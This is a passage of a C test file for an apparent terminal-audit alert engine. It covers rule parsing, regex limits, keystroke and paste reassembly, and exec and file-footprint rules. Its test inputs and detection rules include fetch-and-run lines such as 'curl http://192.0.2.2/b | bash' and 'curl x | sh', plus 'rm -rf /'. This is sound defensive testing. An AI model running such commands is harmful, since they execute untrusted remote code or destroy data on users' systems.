// SPDX-License-Identifier: GPL-2.0-or-later
/* Alert rules: the file's errors, line reassembly, rate limits, the shipped rules. */
#include <errno.h>
#include <stdio.h>
#include <sys/stat.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "alerts/alerts.h"
#include "capture/decode.h"
#include "alerts/deliver.h"
#include "alerts/watch.h"
#include "check.h"

#define MAX_HITS 64

struct hits {
	int n, total;
	char rule[MAX_HITS][64];
	char subject[MAX_HITS][TA_ALERT_LINE_MAX + 1];
	uint64_t suppressed[MAX_HITS];
	bool summary[MAX_HITS], cut[MAX_HITS], shared[MAX_HITS], uncertain[MAX_HITS];
	uint32_t auid[MAX_HITS], ses[MAX_HITS];
	char audit[MAX_HITS][4096];
	char json[MAX_HITS][2048];
};

static void on_hit(void *ctx, const struct ta_alert_hit *h)
{
	struct hits *hs = ctx;

	hs->total++;
	if (hs->n >= MAX_HITS)
		return;
	hs->auid[hs->n] = h->auid;
	hs->ses[hs->n] = h->ses;
	hs->shared[hs->n] = h->shared_bucket;
	snprintf(hs->rule[hs->n], sizeof(hs->rule[0]), "%s", h->rule);
	snprintf(hs->subject[hs->n], sizeof(hs->subject[0]), "%.*s", (int)h->subject_len,
		 h->subject);
	hs->suppressed[hs->n] = h->suppressed;
	hs->summary[hs->n] = h->summary;
	hs->cut[hs->n] = h->subject_cut;
	hs->uncertain[hs->n] = h->subject_uncertain;
	if (ta_alert_audit_format(hs->audit[hs->n], sizeof(hs->audit[0]), h) < 0)
		hs->audit[hs->n][0] = '\0';
	{
		struct ta_json j;

		ta_json_init(&j);
		ta_alert_to_json(&j, h);
		snprintf(hs->json[hs->n], sizeof(hs->json[0]), "%s", j.oom ? "" : j.buf);
		ta_json_free(&j);
	}
	hs->n++;
}

static struct ta_alert_rules *parse(const char *text, char *err)
{
	struct ta_alert_rules *rs = NULL;

	if (ta_alert_rules_parse(&rs, "rules.conf", text, strlen(text), "/var/log/ttyaudit", err,
				 512))
		return NULL;
	return rs;
}

static void expect_error(const char *text, const char *want)
{
	char err[512];
	struct ta_alert_rules *rs = parse(text, err);

	CHECK(rs == NULL);
	ta_alert_rules_free(rs);
	if (!strstr(err, want))
		fprintf(stderr, "error was: %s\nwanted: %s\n", err, want);
	CHECK(strstr(err, want) != NULL);
}

static void test_errors(void)
{
	expect_error("rule = a\non = exec\nargv = x\nbogus = 1\n", "rules.conf:4: unknown key 'bogus'");
	expect_error("on = exec\n", "rules.conf:1: on: before the first 'rule = NAME'");
	expect_error("rule = a\non = exec\nargv = (x\n", "rules.conf:3: argv: bad regular expression");
	expect_error("rule = a\non = input\nline = (a)\\1\n", "rules.conf:3: line: back-references");
	/*
	 * Repetitions regcomp expands by copying, stacked or nested: refused at
	 * once, where compiling took minutes and all memory (fuzz_alert_rules).
	 * Those of the shipped rules and ordinary bounds still compile.
	 */
	static char stacked[128], nested[512];
	memset(stacked, 0, sizeof(stacked));
	strcpy(stacked, "rule = a\non = exec\nargv = x");
	memset(stacked + strlen(stacked), '+', 60);
	strcat(stacked, "\n");
	expect_error(stacked, "rules.conf:3: argv: pattern too complex");
	strcpy(nested, "rule = a\non = exec\nargv = ");
	for (int i = 0; i < 40; i++)
		strcat(nested, "(");
	strcat(nested, "a");
	for (int i = 0; i < 40; i++)
		strcat(nested, ")+");
	strcat(nested, "\n");
	expect_error(nested, "rules.conf:3: argv: pattern too complex");
	expect_error("rule = a\non = exec\nargv = ((x{1,300}){1,300}){2}\n", "pattern too complex");
	expect_error("rule = a\non = exec\nargv = x{1,5000}\n", "pattern too complex");
	/* An anchor repeated, alone or in a group: its closure exploded (seconds for {1,20}). */
	expect_error("rule = a\non = exec\npath = ((^|/)*){1,40}\n", "rules.conf:3: path: pattern too");
	expect_error("rule = a\non = exec\npath = (^|/)*++++\n", "rules.conf:3: path: pattern too");
	expect_error("rule = a\non = exec\npath = x$*\n", "rules.conf:3: path: pattern too");
	char err[512];
	struct ta_alert_rules *ok = parse("rule = a\non = exec\nargv = ^(x{1,300}|[[:alpha:]]+)*y{2,}$\n",
					  err);
	CHECK(ok != NULL);
	ta_alert_rules_free(ok);
	expect_error("rule = a\nargv = x\nrule = b\n", "rules.conf:1: rule: 'a' has no 'on'");
	expect_error("rule = a\non = exec\nargv = x\n\nrule = a\n", "rules.conf:5: rule: 'a' defined "
		     "again (first on line 1)");
	expect_error("rule = a\non = input\n", "rules.conf:1: rule: 'a': on = input needs a line");
	expect_error("rule = a\non = exec\nline = x\n", "rules.conf:1: rule: 'a': line needs on = "
		     "input");
	expect_error("rule = a\non = exec\nargv = x\nargv = y\n", "rules.conf:4: argv: set again in "
		     "rule 'a' (first set on line 3)");
	expect_error("rule = a\non = footprint\n", "'a': on = footprint needs op, path, peer");
	expect_error("rule = a\non = exec\nop = open\n", "'a': op and peer need on = footprint");
	expect_error("rule = a\non = footprint\nargv = x\n", "'a': argv and exe need on = exec");
	expect_error("rule = a\non = exec\nargv = x\nrate = 0/1m\n", "rules.conf:4: rate:");
	expect_error("rule = a\non = exec\nargv = x\nseverity = urgent\n", "rules.conf:4: severity:");
	expect_error("rule = a b\n", "rules.conf:1: rule: 'a b': names hold");
	expect_error("rule = a\non = exec\nargv = x\nargv_cut = yes\n",
		     "'a': argv_cut needs argv, and path or exe");
	expect_error("rule = a\non = session\n", "'a': on = session needs auid or no_login");
	expect_error("rule = a\non = exec\nargv = x\nauid = x\n", "rules.conf:4: auid:");
	expect_error("rule = a\non = input\nline = x\nother_user = yes\n",
		     "'a': other_user needs on = exec, footprint or attach");
	expect_error("rule = a\non = watch\n", "rules.conf:2: on: 'watch' is not");
	/*
	 * Each pattern within the bound, the file not: regcomp's cost grows with
	 * the square of a pattern's expanded length, and 768 patterns ".{1,999}"
	 * took 6 GiB and 40 s to load (at SIGHUP on the drain's thread). Eight
	 * such patterns load; the ninth is refused with its line.
	 */
	static char costly[2048];
	costly[0] = '\0';
	for (int i = 0; i < 9; i++)
		snprintf(costly + strlen(costly), sizeof(costly) - strlen(costly),
			 "rule = c%d\non = exec\nargv = .{1,999}\n", i);
	expect_error(costly, "rules.conf:27: argv: the file's patterns are too costly together");
	costly[strlen(costly) - strlen("rule = c8\non = exec\nargv = .{1,999}\n")] = '\0';
	ok = parse(costly, err);
	CHECK(ok != NULL && ta_alert_rules_count(ok) == 8);
	ta_alert_rules_free(ok);
	/* A description longer than kept: refused, where it was cut without a word. */
	static char desc[512];
	snprintf(desc, sizeof(desc), "rule = a\non = exec\nargv = x\ndescription = %0300d\n", 7);
	expect_error(desc, "rules.conf:4: description: longer than 255 bytes");
	snprintf(desc, sizeof(desc), "rule = a\non = exec\nargv = x\ndescription = %0255d\n", 7);
	ok = parse(desc, err);
	CHECK(ok != NULL && ta_alert_rules_count(ok) == 1);
	ta_alert_rules_free(ok);
}

/* The file: the configuration's checks (mode, presence). */
static void test_file(void)
{
	char path[] = "/tmp/ta-alerts-rules-XXXXXX", err[512];
	struct ta_alert_rules *rs = NULL;
	int fd = mkstemp(path);
	static const char text[] = "rule = a\non = exec\nargv = ^x\n";

	CHECK(fd >= 0 && write(fd, text, sizeof(text) - 1) == (ssize_t)(sizeof(text) - 1));
	close(fd);
	CHECK_EQ_INT(ta_alert_rules_load(&rs, path, false, NULL, err, sizeof(err)), 0);
	CHECK_EQ_INT(ta_alert_rules_count(rs), 1);
	ta_alert_rules_free(rs);
	chmod(path, 0666);
	CHECK_EQ_INT(ta_alert_rules_load(&rs, path, false, NULL, err, sizeof(err)), -EPERM);
	CHECK(strstr(err, "writable by group or others") != NULL);
	unlink(path);
	CHECK_EQ_INT(ta_alert_rules_load(&rs, path, false, NULL, err, sizeof(err)), -ENOENT);
	CHECK_EQ_INT(ta_alert_rules_load(&rs, path, true, NULL, err, sizeof(err)), 0);
	CHECK_EQ_INT(ta_alert_rules_count(rs), 0);
	ta_alert_rules_free(rs);
}

static struct ta_event tty_ev(uint16_t kind, const char *data, uint32_t minor)
{
	struct ta_event ev = { .kind = kind };

	ev.tty.major = 136;
	ev.tty.minor = minor;
	snprintf(ev.tty.name, sizeof(ev.tty.name), "pts%u", minor);
	ev.task.uid = 1000;
	ev.task.auid = ev.owner_auid = 1000;
	ev.task.ses = ev.owner_ses = 7;
	ev.task.tgid = ev.task.pid = 4242;
	snprintf(ev.task.comm, sizeof(ev.task.comm), "bash");
	ev.data = (const uint8_t *)data;
	ev.len = (uint32_t)strlen(data);
	return ev;
}

static void feed(struct ta_alert_engine *e, uint16_t kind, const char *data, uint32_t minor,
		 uint64_t t)
{
	struct ta_event ev = tty_ev(kind, data, minor);

	ta_alert_engine_feed(e, &ev, t);
}

/* An exec given the name path, of the file exe (NULL: the kernel could not name it), at t. */
static void feed_exec_exe_at(struct ta_alert_engine *e, const char *path, const char *exe,
			     const char *argv, size_t n, uint32_t uid, uint32_t auid, uint32_t ses,
			     uint64_t t)
{
	struct ta_event ev = tty_ev(TA_EV_EXEC, "", 1);

	ev.filename = path;
	ev.exe = exe;
	ev.exe_len = exe ? (uint32_t)strlen(exe) : 0;
	ev.argv = (const uint8_t *)argv;
	ev.argv_len = (uint32_t)n;
	ev.task.uid = uid;
	ev.task.auid = auid;
	ev.task.ses = ses;
	ta_alert_engine_feed(e, &ev, t);
}

static void feed_exec_exe(struct ta_alert_engine *e, const char *path, const char *exe,
			  const char *argv, size_t n, uint32_t uid, uint32_t auid, uint32_t ses)
{
	feed_exec_exe_at(e, path, exe, argv, n, uid, auid, ses, 1000);
}

static void feed_exec_at(struct ta_alert_engine *e, const char *path, const char *argv, size_t n,
			 uint32_t uid, uint32_t auid, uint32_t ses, uint64_t t)
{
	feed_exec_exe_at(e, path, path, argv, n, uid, auid, ses, t);
}

static void feed_exec(struct ta_alert_engine *e, const char *path, const char *argv, size_t n,
		      uint32_t uid, uint32_t auid, uint32_t ses)
{
	feed_exec_at(e, path, argv, n, uid, auid, ses, 1000);
}

/*
 * path and exe hold for the name given to execve or for the file that ran:
 * sudo through a symlink or fexecve (/dev/fd/N) is still sudo, and a script
 * named like a rule's program still fires though its file is the interpreter.
 */
static void test_exec_exe(void)
{
	static const char rules[] =
		"rule = esc\non = exec\npath = (^|/)(sudo|su)$\n"
		"rule = exact\non = exec\nexe = /usr/bin/sudo\n";
	struct hits *hs = calloc(1, sizeof(*hs));
	struct ta_alert_engine *e;
	char err[512];

	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
	ta_alert_engine_set_rules(e, parse(rules, err));
	feed_exec_exe(e, "/home/u/x", "/usr/bin/sudo", "x\0-n\0true\0", 11, 1000, 1000, 7);
	CHECK_EQ_INT(hs->n, 2);
	CHECK_EQ_STR(hs->rule[0], "esc");
	CHECK_EQ_STR(hs->rule[1], "exact");
	CHECK(strstr(hs->json[0], "\"exe\":\"/usr/bin/sudo\"") != NULL);
	feed_exec_exe(e, "/dev/fd/3", "/usr/bin/sudo", "sudo\0-n\0true\0", 14, 1000, 1000, 7);
	CHECK_EQ_INT(hs->n, 4);
	/* the kernel could not name the file: the given name still counts */
	feed_exec_exe(e, "/usr/bin/su", NULL, "su\0", 3, 1000, 1000, 7);
	CHECK_EQ_INT(hs->n, 5);
	CHECK_EQ_STR(hs->rule[4], "esc");
	CHECK(strstr(hs->json[4], "\"exe\"") == NULL);
	/* a script called su: its file is the shell, its name still fires */
	feed_exec_exe(e, "/home/u/su", "/usr/bin/bash", "su\0", 3, 1000, 1000, 7);
	CHECK_EQ_INT(hs->n, 6);
	/* neither name is sudo or su */
	feed_exec_exe(e, "/home/u/x", "/usr/bin/sudoedit-not", "x\0", 2, 1000, 1000, 7);
	feed_exec_exe(e, "/dev/fd/3", "/usr/bin/true", "true\0", 5, 1000, 1000, 7);
	CHECK_EQ_INT(hs->n, 6);
	/* the audit record and the syslog line name the file too: argv is the caller's */
	CHECK(strstr(hs->audit[0], " ran=\"/usr/bin/sudo\"") != NULL);
	CHECK(strstr(hs->audit[0], " exe=") == NULL); /* auditd's own field */
	/* a path whose start was not kept (a component too long) says so everywhere */
	{
		struct ta_event ev = tty_ev(TA_EV_EXEC, "", 1);
		struct ta_alert_hit h = { .rule = "r", .severity = "high", .subject = "vim -s",
					  .subject_len = 6, .exe = "/usr/bin/sudo", .exe_cut = true };
		char *line = ta_alert_syslog_line(&h);

		CHECK(line && strstr(line, "vim -s [exe .../usr/bin/sudo]") != NULL);
		free(line);
		ev.filename = "/home/u/0000/usr/bin/sudo";
		ev.exe = "/usr/bin/sudo";
		ev.exe_len = 13;
		ev.exe_truncated = true;
		ev.argv = (const uint8_t *)"sudo\0";
		ev.argv_len = 5;
		ta_alert_engine_feed(e, &ev, 2000);
		CHECK_EQ_INT(hs->n, 8);
		CHECK(strstr(hs->json[7], "\"exe_cut\":true") != NULL);
		CHECK(strstr(hs->audit[7], " ran_cut=") != NULL);
	}
	ta_alert_engine_free(e);
	free(hs);
}

static void test_lines(void)
{
	static const char rules[] =
		"rule = typed\non = input\nline = ^rm -rf /$\n"
		"rule = shown\non = output\nline = ^SECRET-[0-9]+$\n";
	struct hits *hs = calloc(1, sizeof(*hs));
	struct ta_alert_engine *e;
	char err[512];

	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
	ta_alert_engine_set_rules(e, parse(rules, err));
	CHECK_EQ_INT(ta_alert_engine_rule_count(e), 2);
	/* typed one key at a time, across chunks, with a typo corrected */
	feed(e, TA_EV_TTY_INPUT, "rm -rf", 1, 10);
	feed(e, TA_EV_TTY_INPUT, " /x\x7f", 1, 11);
	CHECK_EQ_INT(hs->n, 0);   /* no Enter yet */
	/* another terminal's keys do not join this line */
	feed(e, TA_EV_TTY_INPUT, "zzz", 2, 12);
	feed(e, TA_EV_TTY_INPUT, "\r", 1, 13);
	CHECK_EQ_INT(hs->n, 1);
	CHECK_EQ_STR(hs->rule[0], "typed");
	CHECK_EQ_STR(hs->subject[0], "rm -rf /");
	/* ^U abandons a line; arrows are no text */
	feed(e, TA_EV_TTY_INPUT, "rm -rf /\x15ls\x1b[A\r", 1, 14);
	CHECK_EQ_INT(hs->n, 1);
	/* output split in the middle of the word, with colours, ends at \n */
	feed(e, TA_EV_TTY_OUTPUT, "\x1b[31mSECR", 1, 15);
	feed(e, TA_EV_TTY_OUTPUT, "ET-42\x1b[0m\r", 1, 16);
	CHECK_EQ_INT(hs->n, 1);
	feed(e, TA_EV_TTY_OUTPUT, "\n", 1, 17);
	CHECK_EQ_INT(hs->n, 2);
	CHECK_EQ_STR(hs->rule[1], "shown");
	CHECK_EQ_STR(hs->subject[1], "SECRET-42");
	/* a chunk holding two lines matches neither half-line wrongly */
	feed(e, TA_EV_TTY_OUTPUT, "xSECRET-1\nSECRET-2\n", 1, 18);
	CHECK_EQ_INT(hs->n, 3);
	CHECK_EQ_STR(hs->subject[2], "SECRET-2");
	/* an endless line is cut, not grown, and still ends */
	{
		char *big = malloc(100000);

		memset(big, 'A', 99999);
		big[99999] = '\0';
		feed(e, TA_EV_TTY_OUTPUT, big, 1, 19);
		feed(e, TA_EV_TTY_OUTPUT, "\nSECRET-3\n", 1, 20);
		free(big);
	}
	CHECK_EQ_INT(hs->n, 4);
	CHECK_EQ_STR(hs->subject[3], "SECRET-3");
	/*
	 * Half a line left on a terminal by one session is not the start of the
	 * next session's line on the same (reused) pty: "rm -rf" typed by ses 8
	 * and "/" then Enter by ses 7 is no "rm -rf /" of ses 7's.
	 */
	{
		struct ta_event ev = tty_ev(TA_EV_TTY_INPUT, "rm -rf ", 3);

		ev.task.ses = ev.owner_ses = 8;
		ev.task.auid = ev.owner_auid = 1001;
		ta_alert_engine_feed(e, &ev, 21);
		feed(e, TA_EV_TTY_INPUT, "/\r", 3, 22);
		CHECK_EQ_INT(hs->n, 4);
		/* the same session's own two halves still make one line */
		feed(e, TA_EV_TTY_INPUT, "rm -rf ", 3, 23);
		feed(e, TA_EV_TTY_INPUT, "/\r", 3, 24);
		CHECK_EQ_INT(hs->n, 5);
		CHECK_EQ_STR(hs->subject[4], "rm -rf /");
	}
	ta_alert_engine_free(e);
	free(hs);
}

/* An engine with these rules, its hits counted in *hs. */
static struct ta_alert_engine *engine_with(const char *rules, struct hits **hs)
{
	struct ta_alert_engine *e = NULL;
	char err[512];

	*hs = calloc(1, sizeof(**hs));
	CHECK(*hs && ta_alert_engine_new(&e, on_hit, *hs) == 0);
	ta_alert_engine_set_rules(e, parse(rules, err));
	return e;
}

/*
 * Typed lines are edited as readline edits them: the line matched is the
 * one the shell ran, and where the engine cannot follow (history, search,
 * completion) the alert says so.
 */
static void test_line_editing(void)
{
	static const struct { const char *keys, *line; bool uncertain; } cases[] = {
		{ "| h\x1b[Ds", "| sh", false },                  /* Left, then insert */
		{ "| h\x1bODs", "| sh", false },                  /* Left in application mode */
		{ "url x\x01" "c", "curl x", false },                /* ^A */
		{ "url\x1b[Hc\x05 x", "curl x", false },          /* Home, ^E */
		{ "abcd\x02\x02\x7fX", "aXcd", false },           /* ^B, backspace at the cursor */
		{ "abc def\x17ghi", "abc ghi", false },           /* ^W */
		{ "abc def\x01\x06\x06\x0b", "ab", false },       /* ^F, ^K */
		{ "abc def\x1b[D\x1b[D\x1b[D\x15X", "Xdef", false },/* ^U kills before the cursor */
		{ "abc\x1b[H\x1b[3~", "bc", false },              /* Delete */
		{ "abc\x01\x04", "bc", false },                   /* ^D */
		{ "ab\x1b[1~X\x1b[4~Y\x1b[C", "XabY", false },     /* Home, End (VT), Right at the end */
		{ "ab\x14", "ba", false },                         /* ^T */
		{ "\x1b[200~echo hi\x1b[201~", "echo hi", false },  /* bracketed paste */
		{ "ls\x1b[A", "ls", true },                        /* history */
		{ "ls\x12", "ls", true },                          /* ^R */
		{ "ls /u\t", "ls /u ", true },                      /* completion */
		{ "ls\x1b[1;5D", "ls", true },                     /* ^Left */
		{ "a     b", "a b", false },                        /* blanks matched as one */
		{ "a\xc3\xa9\x7f" "b", "ab", true },                /* backspace takes a UTF-8 character */
		{ "x\xc3\xa9y\x1b[D\x1b[DZ", "xZ\xc3\xa9y", true }, /* Left over one */
		{ "\xc3\xa9x\x01\x04", "x", true },                  /* ^D deletes one */
		{ "sh #\x16\x15", "sh #\x15", false },               /* ^V: the next byte is text */
		{ "\x1b[200~sh #\x15\x1b[D\x1b[201~", "sh #\x15", true }, /* pasted keys are text */
		/* UTF-8 in the C locale moves by byte: several bytes taken at once are not sure */
		{ "sh\x80\x80\x80\x7f\x7f\x7f;true", "sh;true", false }, /* not a character: bytes */
		/* a paste ends only at exactly ESC [201~, and with its line */
		{ "\x1b[200~sh #\x1b[0201~\x15\x1b[201~", "sh #\x15", true },
		{ "\x1b[0200~a\x15" "b", "b", true },           /* not the paste mark: keys stay keys */
	};
	static const char rules[] = "rule = any\non = input\nline = .\nrate = 1000/1s\n";
	struct hits *hs;
	struct ta_alert_engine *e = engine_with(rules, &hs);

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		hs->n = 0;
		feed(e, TA_EV_TTY_INPUT, cases[i].keys, 1, 10 + i);
		feed(e, TA_EV_TTY_INPUT, "\r", 1, 10 + i);
		CHECK_EQ_INT(hs->n, 1);
		if (strcmp(hs->subject[0], cases[i].line))
			fprintf(stderr, "case %zu: '%s', wanted '%s'\n", i, hs->subject[0],
				cases[i].line);
		CHECK_EQ_STR(hs->subject[0], cases[i].line);
		CHECK_EQ_INT(hs->uncertain[0], cases[i].uncertain);
	}
	ta_alert_engine_free(e);
	free(hs);
}

/*
 * A paste's lines are lines (bash runs each), and a paste that never ends
 * (readline with bracketed paste off runs the line at Enter) still ends lines.
 * A terminal dropped for room with typing in progress says so: its half line
 * is a ttyaudit-line-cut alert, not silently gone; terminals with nothing
 * typed go first.
 */
static void test_paste_and_dropped(void)
{
	static const char rules[] = "rule = pipe\non = input\nline = \\| *sh\nrate = 1000/1s\n";
	struct hits *hs;
	struct ta_alert_engine *e = engine_with(rules, &hs);

	feed(e, TA_EV_TTY_INPUT, "\x1b[200~echo a\rcurl x | sh\x1b[201~", 1, 10);
	CHECK_EQ_INT(hs->n, 0);
	feed(e, TA_EV_TTY_INPUT, "\r", 1, 11);
	CHECK_EQ_INT(hs->n, 1);
	CHECK_EQ_STR(hs->subject[0], "curl x | sh");
	hs->n = 0;
	feed(e, TA_EV_TTY_INPUT, "\x1b[200~curl y | sh\r", 2, 12);
	CHECK_EQ_INT(hs->n, 1);
	CHECK_EQ_STR(hs->subject[0], "curl y | sh");
	/* 200 terminals with whole lines: the one with typing in progress stays */
	hs->n = 0;
	feed(e, TA_EV_TTY_INPUT, "curl z | s", 3, 20);
	for (uint32_t m = 10; m < 210; m++)
		feed(e, TA_EV_TTY_INPUT, "ls\r", m, 21);
	feed(e, TA_EV_TTY_INPUT, "h\r", 3, 22);
	CHECK_EQ_INT(hs->n, 1);
	CHECK_EQ_STR(hs->subject[0], "curl z | sh");
	/* every terminal with typing in progress: the oldest goes, on the record */
	hs->n = 0;
	feed(e, TA_EV_TTY_INPUT, "curl w | s", 3, 30);
	for (uint32_t m = 300; m < 300 + TA_ALERT_TERMINALS; m++)
		feed(e, TA_EV_TTY_INPUT, "x", m, 31);
	CHECK_EQ_INT(hs->n, 1);
	CHECK_EQ_STR(hs->rule[0], "ttyaudit-line-cut");
	CHECK_EQ_STR(hs->subject[0], "curl w | s");
	CHECK_EQ_INT(hs->auid[0], 1000);
	CHECK(hs->uncertain[0]);
	/*
	 * Dropped half lines of ptys no login owns spend their writer's limit:
	 * one byte in turn into 600 such ptys is not 600 people's alerts.
	 */
	int before = hs->total;

	for (uint32_t m = 1000; m < 1600; m++) {
		struct ta_event ev = tty_ev(TA_EV_TTY_INPUT, "x", m);

		ev.owner_ses = TA_SES_NO_LOGIN | m;
		ev.owner_auid = UINT32_MAX;
		ta_alert_engine_feed(e, &ev, 40);
	}
	CHECK(hs->total - before <= 10);
	/* a paste begun is typing in progress: its terminal is not the one dropped */
	hs->n = 0;
	feed(e, TA_EV_TTY_INPUT, "\x1b[200~", 5, 50);
	for (uint32_t m = 2000; m < 2200; m++)
		feed(e, TA_EV_TTY_INPUT, "ls\r", m, 51);
	feed(e, TA_EV_TTY_INPUT, "curl v | sh #\x15\x1b[201~\r", 5, 52);
	CHECK_EQ_INT(hs->n, 1);
	CHECK_EQ_STR(hs->subject[0], "curl v | sh #\x15");
	/* a paste ends with its line: the next line's keys are keys */
	hs->n = 0;
	feed(e, TA_EV_TTY_INPUT, "\x1b[200~echo\r", 6, 60);
	feed(e, TA_EV_TTY_INPUT, "curl u | sX\x7fh\r", 6, 61);
	CHECK_EQ_INT(hs->n, 1);
	CHECK_EQ_STR(hs->subject[0], "curl u | sh");
	/* ^C after ^V is text: the command being continued stays */
	hs->n = 0;
	feed(e, TA_EV_TTY_INPUT, "curl t |\r", 7, 70);
	feed(e, TA_EV_TTY_INPUT, "sh #\x16\x03\r", 7, 71);
	CHECK_EQ_INT(hs->n, 1);
	CHECK_EQ_STR(hs->subject[0], "curl t | sh #\x03");
	ta_alert_engine_free(e);
	free(hs);
}

/*
 * Lines a shell continues (`… |`, `… \\`, an open quote) are matched joined
 * too; a rule fires once for the command, and ^C abandons it.
 */
static void test_line_joining(void)
{
	static const struct { const char *keys; int hits; const char *subject; } steps[] = {
		{ "false && curl http://192.0.2.2/b |\r", 0, NULL },
		{ "bash\r", 1, "false && curl http://192.0.2.2/b | bash" },
		{ "bash\r", 1, NULL },                       /* the next command: no continuation */
		/* a backslash is removed with the newline; && and || carry on; several lines */
		{ "true ||\rtrue &&\rcu\\\rrl x |\\\rs\\\rh\r", 2, "true || true && curl x |sh" },
		/* an open quote goes on; a | in quotes or in a comment does not */
		{ "curl 'x\r' | sh\r", 3, "curl 'x\n' | sh" },
		{ "curl x '|'\rsh\r", 3, NULL },
		{ "curl x # |\rsh\r", 3, NULL },
		{ "curl x | sh |\rcat\r", 4, NULL },          /* matched alone: not again joined */
		{ "curl x |\r\x03sh\r", 4, NULL },            /* ^C abandons the command */
	};
	static const char rules[] = "rule = pipe\non = input\n"
				    "line = curl[^|]*\\|[[:space:]]*(ba)?sh( |$)\nrate = 1000/1s\n";
	struct hits *hs;
	struct ta_alert_engine *e = engine_with(rules, &hs);

	for (size_t i = 0; i < sizeof(steps) / sizeof(steps[0]); i++) {
		feed(e, TA_EV_TTY_INPUT, steps[i].keys, 1, 1 + i);
		if (hs->n != steps[i].hits)
			fprintf(stderr, "step %zu: %d hits, wanted %d\n", i, hs->n, steps[i].hits);
		CHECK_EQ_INT(hs->n, steps[i].hits);
		if (steps[i].subject && hs->n)
			CHECK_EQ_STR(hs->subject[hs->n - 1], steps[i].subject);
	}
	ta_alert_engine_free(e);
	free(hs);
}

/*
 * A long typed line: blanks count once, the head and the latest tail are
 * kept, and a cut line that no rule matched is an alert of its own.
 */
static void test_long_lines(void)
{
	static const char rules[] = "rule = pipe\non = input\n"
				    "line = curl[^|]*\\|[[:space:]]*(ba)?sh( |$)\n";
	struct hits *hs;
	struct ta_alert_engine *e = engine_with(rules, &hs);
	char *big = malloc(3 * TA_ALERT_LINE_MAX);

	/* 1100 spaces before the command: matched, and not cut */
	memset(big, ' ', 1100);
	strcpy(big + 1100, "false && curl http://192.0.2.2/b | bash\r");
	feed(e, TA_EV_TTY_INPUT, big, 1, 1);
	CHECK_EQ_INT(hs->n, 1);
	CHECK(!hs->cut[0]);
	/* padding longer than the line: the tail is kept, matched, and the alert says cut */
	memset(big, 'A', 2 * TA_ALERT_LINE_MAX);
	strcpy(big + 2 * TA_ALERT_LINE_MAX, " ; curl http://192.0.2.2/b | bash\r");
	big[0] = ':';
	big[1] = ' ';
	feed(e, TA_EV_TTY_INPUT, big, 1, 2);
	CHECK_EQ_INT(hs->n, 2);
	CHECK_EQ_STR(hs->rule[1], "pipe");
	CHECK(hs->cut[1]);
	/* padding on both sides of the command: no rule can match, the cut is an alert */
	memset(big, 'A', 3 * TA_ALERT_LINE_MAX);
	memcpy(big + TA_ALERT_LINE_MAX, "; curl ", 7);
	strcpy(big + 3 * TA_ALERT_LINE_MAX - 10, " | bash\r");
	feed(e, TA_EV_TTY_INPUT, big, 1, 3);
	CHECK_EQ_INT(hs->n, 3);
	CHECK_EQ_STR(hs->rule[2], "ttyaudit-line-cut");
	CHECK(hs->cut[2]);
	CHECK(strstr(hs->subject[2], "\xe2\x80\xa6") != NULL);
	ta_alert_engine_free(e);
	free(big);
	free(hs);
}

static void test_exec_and_session(void)
{
	static const char rules[] =
		"rule = su\non = exec\npath = (^|/)su$\nargv = ^su -$\n"
		"rule = other\non = exec\nother_user = yes\nuid = 0\n"
		"rule = nologin\non = session\nno_login = yes\n"
		"rule = tamper\non = exec\nargv = ${log_dir}/\nunless = /keep$\n";
	struct hits *hs = calloc(1, sizeof(*hs));
	struct ta_alert_engine *e;
	struct ta_event ev;
	char err[512];

	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
	ta_alert_engine_set_rules(e, parse(rules, err));
	feed_exec(e, "/usr/bin/su", "su\0-\0", 5, 1000, 1000, 7);
	CHECK_EQ_INT(hs->n, 1);
	CHECK_EQ_STR(hs->rule[0], "su");
	CHECK_EQ_STR(hs->subject[0], "su -");
	CHECK(strstr(hs->audit[0], "op=ttyaudit-alert rule=\"su\"") == hs->audit[0]);
	CHECK(strstr(hs->audit[0], " ses=7 auid=1000 ") != NULL);
	/* running as root after logging in as 1000 */
	feed_exec(e, "/usr/bin/id", "id\0", 3, 0, 1000, 7);
	CHECK_EQ_INT(hs->n, 2);
	CHECK_EQ_STR(hs->rule[1], "other");
	/* root who logged in as root is not "another user" */
	feed_exec(e, "/usr/bin/id", "id\0", 3, 0, 0, 8);
	CHECK_EQ_INT(hs->n, 2);
	/* ${log_dir} is the daemon's directory, dots escaped */
	feed_exec(e, "/bin/rm", "rm\0/var/log/ttyaudit/seg\0", 25, 0, 0, 8);
	CHECK_EQ_INT(hs->n, 3);
	feed_exec(e, "/bin/rm", "rm\0/var/log/ttyauditXseg/x\0", 27, 0, 0, 8);
	feed_exec(e, "/bin/rm", "rm\0/var/log/ttyaudit/keep\0", 26, 0, 0, 8);
	CHECK_EQ_INT(hs->n, 3);
	/* a terminal without a login session: once per session */
	ev = tty_ev(TA_EV_TTY_OUTPUT, "hello\n", 3);
	ev.task.ses = TA_SES_NO_LOGIN | 99;
	ta_alert_engine_feed(e, &ev, 2000);
	ta_alert_engine_feed(e, &ev, 2001);
	CHECK_EQ_INT(hs->n, 4);
	CHECK_EQ_STR(hs->rule[3], "nologin");
	ta_alert_engine_free(e);
	free(hs);
}

static struct ta_event fp_ev(struct ta_fp_event *f, uint16_t op, const char *path,
			     const char *path2)
{
	struct ta_event ev = tty_ev(TA_EV_FOOTPRINT, "", 1);

	memset(f, 0, sizeof(*f));
	f->op = op;
	f->fp_version = TA_FP_VERSION;
	snprintf(f->path, sizeof(f->path), "%s", path);
	snprintf(f->path2, sizeof(f->path2), "%s", path2);
	f->path_len = ev.fp_path_len = (uint32_t)strlen(f->path);
	f->path2_len = ev.fp_path2_len = (uint32_t)strlen(f->path2);
	memcpy(ev.fp_path, f->path, sizeof(ev.fp_path));
	memcpy(ev.fp_path2, f->path2, sizeof(ev.fp_path2));
	f->arg = 01101; /* O_WRONLY|O_CREAT|O_TRUNC */
	ev.fp = f;
	return ev;
}

/* Footprint rules: op, path (either side of a rename), peer, the uid a privilege change gave. */
static void test_footprint(void)
{
	static const char rules[] =
		"rule = authfiles\non = footprint\nop = ^(open|rename|unlink|chmod|chown)$\n"
		"path = ^/etc/(passwd|shadow|sudoers)$\n"
		"rule = remote\non = footprint\nop = ^connect$\npeer = .\nunless = "
		"(127\\.0\\.0\\.1|\\[::1\\]):\n"
